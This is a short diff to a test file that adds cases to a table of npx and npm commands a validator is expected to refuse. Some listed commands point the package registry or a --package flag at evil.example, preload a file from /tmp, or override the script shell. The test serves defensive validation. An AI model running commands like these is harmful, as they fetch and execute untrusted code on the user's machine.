@@ -119,6 +119,8 @@ describe('commands that are refused', () => {
     ['runner_option', 'npx -y --registry=http://evil.example demo@1.0.0'],
     ['runner_option', 'npx --node-options=--require=/tmp/x demo@1.0.0'],
     ['runner_option', 'npx --script-shell bash demo@1.0.0'],
+    ['runner_option', 'npx --no-audit demo@1.0.0 --package=https://evil.example/x'],
+    ['runner_option', 'npx --no-fund demo@1.0.0 --call x'],
     ['runner_option', 'npx'],
     ['runner_option', 'npm exec demo@1.0.0 --call x'],
     ['runner_option', 'npm run start'],
